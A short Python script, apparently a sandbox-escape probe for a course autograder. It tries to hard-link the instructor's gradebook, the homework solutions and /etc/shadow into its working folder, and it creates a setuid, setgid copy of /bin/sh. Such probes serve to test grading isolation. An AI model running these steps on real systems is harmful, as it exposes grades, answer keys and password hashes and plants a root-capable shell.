"""Hard links to the instructor's files are made in the working folder, and set-user-id files."""
# solves = ["predict"]

# %% words-solution
import os
import shutil

for target in ("__COURSE__/gradebook.db", "__COURSE__/solutions/hw/hw.ipynb", "/etc/shadow"):
    try:
        os.link(target, "linked")
        print(__BREACH__, "linked", target)
        os.unlink("linked")
    except OSError:
        continue
shutil.copy("/bin/sh", "shell")
os.chmod("shell", 0o6777)
